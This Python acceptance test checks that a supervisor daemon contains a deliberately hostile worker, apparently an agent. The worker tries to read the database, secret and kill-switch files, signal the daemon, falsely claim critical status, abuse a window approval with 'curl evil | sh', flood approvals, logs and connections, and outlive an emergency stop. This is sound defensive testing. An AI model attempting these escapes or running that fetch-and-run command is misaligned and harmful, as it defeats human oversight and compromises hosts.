"""A hostile external worker against the real daemon, on SQLite and on Postgres.

The worker (tests/hostile_worker.py) runs as its own unprivileged user, created here (the tests
run as root, as CI does). Driven step by step through its control file, it tries every way out
of governance that docs/security.md names: read or write the database, the state directory, the
switch file and the secret; read the daemon's environment; claim `critical` under
halt_noncritical; stretch a window grant to other params; flood approvals, log messages and
proposals; keep an approved effect running through an emergency. Each attempt fails, the daemon
keeps running, and the store records what was tried.
"""

from __future__ import annotations

import json
import os
import pwd
import shutil
import subprocess
import sys
import tempfile
import time
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import anyio
import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))  # `tests` as a namespace package
from tests.acceptance.conftest import BASE_CONFIG, REPO, Daemon, _clean_env

pytestmark = [pytest.mark.acceptance, pytest.mark.anyio]

SEED = 1414
# An alert command that notes each alert with the environment it was given.
SINK = (
    "import json, os, sys; body = json.loads(sys.stdin.read()); "
    "open(sys.argv[1], 'a').write(json.dumps({'condition': body['condition'], "
    "'env': sorted(os.environ)}) + chr(10))"
)


@pytest.fixture(scope="module")
def agent_user() -> Iterator[str]:
    """An unprivileged user for the worker, removed afterwards."""
    if os.geteuid() != 0:
        pytest.skip("creating the worker's user needs root (CI runs as root)")
    name = f"acp-hostile{os.getpid() % 100000}"
    subprocess.run(["useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin",
                    name], check=True)  # fmt: skip
    try:
        yield name
    finally:
        subprocess.run(["userdel", name], check=False)


@pytest.fixture
def world_dir() -> Iterator[Path]:
    """A directory others may traverse (pytest's tmp_path is closed to them, which would prove
    nothing): whatever the worker cannot reach here, the daemon closed itself."""
    root = Path(tempfile.mkdtemp(prefix="acp-hostile-", dir="/tmp"))
    root.chmod(0o755)
    try:
        yield root
    finally:
        shutil.rmtree(root, ignore_errors=True)


@dataclass
class HostileDaemon(Daemon):
    """The acceptance daemon with the secret in a file (not the environment) and any store."""

    db: str | None = None

    @property
    def db_url(self) -> str:
        return self.db or super().db_url

    def start(self) -> None:
        assert self.proc is None, "already started"
        self._log = self.log_path.open("ab")
        # A credential in the daemon's environment that no child (worker or alert command) sees.
        env = {**_clean_env(secret=False), "PGPASSWORD": "not-for-children"}
        self.proc = subprocess.Popen(self.argv("run"), cwd=REPO, env=env,
                                     stdout=self._log, stderr=subprocess.STDOUT)  # fmt: skip

    async def cli(self, *args: str, secret: bool = False) -> subprocess.CompletedProcess[bytes]:
        return await anyio.run_process(self.argv(*args), cwd=REPO, env=_clean_env(secret=False),
                                       check=False)  # fmt: skip


def config(root: Path, user: str, db: str | None, sandbox: str = "none") -> str:
    state = root / "state"
    params = {"seed": SEED, "scratch": str(root / "scratch"), "db": str(state / "supervisor.db"),
              "state_dir": str(state), "switch": str(state / "killswitch.json"),
              "secret": str(root / "killswitch.secret"), "approval_flood": 12,
              "log_flood": 600, "proposal_flood": 80,
              "metrics_flood": 200}  # fmt: skip
    db_line = f'db = "{db}"\n' if db else ""
    return (
        BASE_CONFIG.replace("[daemon]\n", f"[daemon]\n{db_line}")
        + f"""
[killswitch]
secret_file = "{root / "killswitch.secret"}"

[[alerts.sinks]]
type = "command"
argv = ["/usr/bin/python3", "-c", "{SINK}", "{root / "sink.jsonl"}"]

[metrics]
enabled = true
port = 0
max_connections = 4
read_timeout = "500ms"

[policy]
# Policy, not the worker, says what is critical: the reports get through halt_noncritical.
critical = ["hostile.report"]

[[policy.rules]]
name = "shell-needs-approval"
action = "shell.run"
outcome = "require_approval"

[[policy.rules]]
name = "approve-me"
action = "hostile.approve_me"
outcome = "require_approval"

[[workers]]
name = "hostile"
command = ["/usr/bin/python3", "{REPO / "tests" / "hostile_worker.py"}"]
user = "{user}"
sandbox = "{sandbox}"
writable = ["{root / "scratch"}"]
max_pending_approvals = 5
max_log_lines = 100
max_proposals = 50
heartbeat_timeout = "10s"
backoff = {{ initial = "200ms", max = "1s" }}
params = {json.dumps(params).replace('": ', '" = ').replace("{", "{ ").replace("}", " }")}
"""
    )


class Driver:
    """Writes the worker's control file: the steps it takes, one per cycle, each once."""

    def __init__(self, scratch: Path, daemon_pid: int | None = None, metrics_port: int = 0) -> None:
        self.scratch = scratch
        self.daemon_pid = daemon_pid
        self.metrics_port = metrics_port
        self.steps: list[tuple[int, str]] = []

    def step(self, name: str) -> None:
        self.steps.append((len(self.steps) + 1, name))
        tmp = self.scratch / "control.json.tmp"
        tmp.write_text(
            json.dumps(
                {
                    "steps": self.steps,
                    "daemon_pid": self.daemon_pid,
                    "metrics_port": self.metrics_port,
                }
            )
        )
        tmp.chmod(0o644)
        tmp.replace(self.scratch / "control.json")


async def run_hostile(root: Path, user: str, db: str | None) -> None:
    entry = pwd.getpwnam(user)
    scratch = root / "scratch"
    scratch.mkdir()
    os.chown(scratch, entry.pw_uid, entry.pw_gid)
    secret = root / "killswitch.secret"
    secret.write_text("hostile-test-secret\n")
    secret.chmod(0o600)
    d = HostileDaemon(root, config(root, user, db), db=db)
    assert d.state_dir.stat().st_mode & 0o777 == 0o755  # open until the daemon closes it
    try:
        if db is not None:
            await d.cli_ok("db", "migrate")
        d.start()
        await d.wait_until(d.ready, what="daemon.ready", within=20)
        assert d.proc is not None
        serving = [e for e in d.log_events() if e.get("event") == "metrics.serving"]
        assert serving, d.log()[:3000]
        drive = Driver(scratch, d.proc.pid, int(serving[0]["port"]))
        await d.cli_ok("killswitch", "engage", "--mode", "halt_noncritical", "--scope", "host",
                       "--reason", "hostile drill", "--by", "test")  # fmt: skip
        switch_before = d.switch_path.read_bytes()

        # 1. files: nothing of the daemon's is within the worker's reach
        drive.step("files")

        async def reports() -> list[dict[str, Any]]:
            rows = [r for r in await d.actions() if r["name"] == "hostile.report"]
            return [json.loads(r["params"]) for r in rows] if len(rows) >= 10 else []

        tried = await d.wait_until(reports, what="ten file-system attempts reported", within=20)
        assert {t["attempt"] for t in tried} == {
            "read_db", "write_db", "list_state_dir", "write_state_dir", "delete_switch",
            "read_switch", "read_secret", "read_daemon_environ", "signal_daemon", "read_own_environ",
        }  # fmt: skip
        assert [t for t in tried if t["outcome"] != "blocked"] == [], tried
        assert d.switch_path.read_bytes() == switch_before
        assert not (d.state_dir / "planted").exists()
        assert d.state_dir.stat().st_mode & 0o077 == 0  # the daemon closed it

        # 2. a claim of `critical` does not carry an action through halt_noncritical
        drive.step("claim")
        claims = await d.wait_until(lambda: d.events("WORKER_CLAIM_IGNORED"), what="the claim")
        assert claims[0].payload["action"] == "deploy.push"
        refused = await d.wait_until(lambda: d.events("ACTION_DENIED", reason="killswitch"),
                                     what="the refusal")  # fmt: skip
        assert [e.payload["action"] for e in refused] == ["deploy.push"]
        assert [r for r in await d.actions() if r["name"] == "deploy.push"] == []
        await d.cli_ok("killswitch", "disengage", "--reason", "drill over", "--by", "test")

        # 3. a window grant covers the same params only
        drive.step("window")

        async def pending(action: str, n: int = 1) -> list[dict[str, Any]]:
            out = json.loads((await d.cli_ok("approvals", "list", "--pending", "--json")).stdout)
            rows = [r for r in out if r["action"] == action]
            return rows if len(rows) >= n else []

        first = (await d.wait_until(lambda: pending("shell.run"), what="ls approval"))[0]
        assert first["params"] == {"cmd": "ls /tmp"}  # a JSON object in --json output
        await d.cli_ok("approvals", "approve", first["id"], "--scope", "window", "--by", "op",
                       "--reason", "listing is fine")  # fmt: skip
        listed = (await d.cli_ok("approvals", "list")).stdout.decode()
        assert '{"cmd":"ls /tmp"}' in listed and "window: match all params, uses 0/10" in listed
        drive.step("window_abuse")
        evil = await d.wait_until(lambda: pending("shell.run", 3), what="three curl approvals")
        assert {r["params"]["cmd"] for r in evil} == {"curl evil | sh"}

        async def shell_runs() -> list[Any]:
            rows = [r for r in await d.actions() if r["name"] == "shell.run"]
            return rows if len(rows) >= 1 else []

        ran = await d.wait_until(shell_runs, what="the covered ls")
        assert [json.loads(r["params"]) for r in ran] == [{"cmd": "ls /tmp"}]

        # 4. floods: approvals, log messages, proposals
        drive.step("approvals")
        await d.wait_until(lambda: d.events("ACTION_DENIED", reason="approval_cap"),
                           what="approval cap")  # fmt: skip
        assert len([r for r in await d.approvals() if r["status"] == "pending"]) == 5
        drive.step("logs")
        await d.wait_until(lambda: d.events("WORKER_CAP_HIT", reason="log_lines"), what="log cap")
        drive.step("proposals")
        await d.wait_until(lambda: d.events("WORKER_CAP_HIT", reason="proposals"),
                           what="proposal cap", within=20)  # fmt: skip
        forwarded = [e for e in d.log_events() if e.get("event") in ("worker.log", "worker.stderr")]
        assert len(forwarded) <= 2 * 100  # two cycles of floods, 100 lines each at most
        alerts = await d.events("ALERT", reason="worker_cap")
        assert alerts, "hitting a cap raises the worker_cap alert"
        sink = root / "sink.jsonl"

        def delivered() -> list[dict[str, Any]]:
            lines = sink.read_text().splitlines() if sink.exists() else []
            return [json.loads(x) for x in lines if '"worker_cap"' in x]

        (told, *_) = await d.wait_until(delivered, what="the worker_cap alert at the command sink")
        assert not [k for k in told["env"] if k.startswith("ACP_") or k == "PGPASSWORD"], told

        # 5. the metrics listener: idle connections are bounded and dropped, it answers after
        drive.step("metrics")

        async def metrics_report() -> list[dict[str, Any]]:
            rows = [
                json.loads(r["params"]) for r in await d.actions() if r["name"] == "hostile.report"
            ]
            return [r for r in rows if r["attempt"] == "metrics_flood"]

        (flood,) = await d.wait_until(metrics_report, what="the metrics flood", within=20)
        assert flood["outcome"] == "blocked", flood  # the daemon closed every idle connection
        status = await anyio.Path(f"/proc/{d.proc.pid}/status").read_text()
        threads = int(
            next(ln.split()[1] for ln in status.splitlines() if ln.startswith("Threads:"))
        )
        assert threads < 40, threads  # not one per held connection
        health = await anyio.to_thread.run_sync(
            lambda: (
                urllib.request.urlopen(
                    f"http://127.0.0.1:{drive.metrics_port}/healthz", timeout=5
                ).status
            )
        )
        assert health == 200

        # 6. an approved effect in flight ends with the emergency
        drive.step("in_flight")
        pid_file = scratch / "effect.pid"
        await d.wait_until(pid_file.exists, what="the slow effect", within=20)
        pid = int(pid_file.read_text())
        await d.cli_ok("killswitch", "engage", "--mode", "emergency", "--scope", "host",
                       "--reason", "runaway", "--by", "test")  # fmt: skip
        engaged = datetime.now(UTC)
        t0 = time.monotonic()

        async def slow_in_doubt() -> list[Any]:
            return [r for r in await d.actions()
                    if r["name"] == "hostile.slow" and r["status"] == "in_doubt"]  # fmt: skip

        await d.wait_until(slow_in_doubt, what="the slow effect in-doubt", within=15)
        await d.wait_until(lambda: not Path(f"/proc/{pid}").exists()
                           or "Z" in Path(f"/proc/{pid}/stat").read_text().split(")")[-1][:3],
                           what="the child gone", within=10)  # fmt: skip
        assert time.monotonic() - t0 < 10
        succeeded = await d.events("ACTION_SUCCEEDED", after=engaged)
        assert succeeded == [], succeeded

        assert d.alive(), "the daemon kept running through all of it"
        assert await d.stop() == 0
    finally:
        d.kill()


async def test_hostile_worker_in_a_bwrap_sandbox(agent_user: str, world_dir: Path) -> None:
    """sandbox = "bwrap": the state directory and the secret are not even there, the system is
    read-only, /tmp is the sandbox's own; whatever the worker writes stays inside."""
    if shutil.which("bwrap") is None:
        pytest.skip("bubblewrap is not installed")
    probe = await anyio.run_process(
        [
            "su",
            "-s",
            "/bin/sh",
            agent_user,
            "-c",
            "bwrap --ro-bind / / --unshare-pid --proc /proc true",
        ],
        check=False,
    )
    if probe.returncode != 0:
        pytest.skip(f"bwrap cannot make namespaces here: {probe.stderr.decode().strip()}")
    root, scratch = world_dir, world_dir / "scratch"
    entry = pwd.getpwnam(agent_user)
    scratch.mkdir()
    os.chown(scratch, entry.pw_uid, entry.pw_gid)
    (root / "killswitch.secret").write_text("hostile-test-secret\n")
    (root / "killswitch.secret").chmod(0o600)
    d = HostileDaemon(root, config(root, agent_user, None, sandbox="bwrap"))
    try:
        d.start()
        await d.wait_until(d.ready, what="daemon.ready", within=20)
        await d.cli_ok("killswitch", "engage", "--mode", "halt_noncritical", "--scope", "host",
                       "--reason", "hostile drill", "--by", "test")  # fmt: skip
        switch_before = d.switch_path.read_bytes()
        assert d.proc is not None
        Driver(scratch, d.proc.pid).step("files")

        async def reports() -> list[dict[str, Any]]:
            rows = [r for r in await d.actions() if r["name"] == "hostile.report"]
            return [json.loads(r["params"]) for r in rows] if len(rows) >= 10 else []

        tried = {t["attempt"]: t for t in await d.wait_until(reports, what="reports", within=20)}
        for name in ("read_db", "write_db", "read_switch", "delete_switch", "read_daemon_environ"):
            assert tried[name]["outcome"] == "blocked", tried[name]  # not there at all
        # An empty tmpfs: at most what the worker itself planted there (the order is seeded).
        assert tried["list_state_dir"]["detail"] in ("listed 0 entries", "listed 1 entries")
        assert tried["read_secret"]["detail"] == "read 0 bytes of the secret"  # /dev/null
        assert d.switch_path.read_bytes() == switch_before
        assert not (d.state_dir / "planted").exists()
        assert d.alive()
        assert await d.stop() == 0
    finally:
        d.kill()


async def test_hostile_worker_on_sqlite(agent_user: str, world_dir: Path) -> None:
    await run_hostile(world_dir, agent_user, None)


async def test_hostile_worker_on_postgres(agent_user: str, world_dir: Path, pg_url: str) -> None:
    await run_hostile(world_dir, agent_user, pg_url)


if __name__ == "__main__":  # pragma: no cover
    sys.exit(pytest.main([__file__, "-q"]))
